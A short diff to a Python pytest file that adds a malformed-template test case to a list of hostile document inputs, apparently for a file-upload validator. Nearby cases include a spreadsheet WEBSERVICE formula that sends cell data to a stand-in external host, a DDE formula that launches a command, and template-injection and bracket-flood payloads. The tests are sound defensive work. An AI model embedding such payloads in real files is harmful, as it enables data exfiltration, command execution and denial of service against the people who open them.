@@ -147,6 +147,10 @@ def with_field(*pieces: str) -> bytes:
         pytest.param(with_formula("_xlfn.WEBSERVICE(&quot;http://elsewhere.example/&quot;&amp;B3)"), id="a formula that sends"),
         pytest.param(with_formula("cmd|'/c calc'!A0"), id="a formula that calls"),
         pytest.param(
+            word("{{ name }}" * 100, "{{ name " * 50_000),
+            id="brackets without end",
+        ),
+        pytest.param(
             changed(word("NOTHING {{ name }}"), DOCUMENT, "NOTHING", "&#123;&#123; range(99999999)|list &#125;&#125;"),
             id="a program in other letters",
         ),
